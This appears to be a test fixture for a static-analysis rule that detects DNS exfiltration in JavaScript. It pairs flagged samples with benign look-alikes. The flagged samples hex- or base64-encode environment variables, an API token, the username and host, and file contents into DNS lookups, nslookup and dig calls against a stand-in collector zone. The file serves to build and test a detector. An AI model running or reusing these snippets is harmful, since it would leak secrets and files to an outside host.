import dns, { resolveTxt } from 'node:dns';
import os from 'node:os';
import fs from 'node:fs';
import { execSync, spawn } from 'node:child_process';

const ZONE = 'collector.example.com';

export function lookups() {
  const data = Buffer.from(JSON.stringify(process.env)).toString('hex');
  // ruleid: dns-exfiltration
  dns.lookup(`${data.slice(0, 60)}.${ZONE}`, () => {});
  // ruleid: dns-exfiltration
  resolveTxt(btoa(process.env.API_TOKEN) + '.' + ZONE, () => {});
  // ruleid: dns-exfiltration
  dns.promises.resolve4(`${os.hostname()}.${os.userInfo().username}.${ZONE}`);
  const chunks = fs.readFileSync('x').toString('hex').match(/.{1,60}/g);
  chunks.forEach((chunk, index) => {
    // ruleid: dns-exfiltration
    dns.resolve(`${index}.${chunk}.${ZONE}`, 'A', () => {});
  });
  for (const chunk of chunks) {
    // ruleid: dns-exfiltration
    (0, dns_1.lookup)(`${chunk}.${ZONE}`, () => {});
  }
  // ruleid: dns-exfiltration
  execSync(`nslookup ${data}.${ZONE}`);
  // ruleid: dns-exfiltration
  spawn('dig', [`${data}.${ZONE}`]);
}

export async function lookAlikes(host, promise) {
  // ok: dns-exfiltration
  dns.lookup(host, () => {});
  // ok: dns-exfiltration
  dns.lookup(process.env.DATABASE_HOST, () => {});
  // ok: dns-exfiltration
  promise.resolve('x');
  const id = Buffer.from(host).toString('hex');
  // ok: dns-exfiltration
  await new Promise((resolve, reject) => resolve(id));
  // ok: dns-exfiltration
  cache.get(id);
  // dns.lookup(btoa(process.env.API_TOKEN))
  // ok: dns-exfiltration
  return 'dns.lookup(btoa(process.env.API_TOKEN))';
}
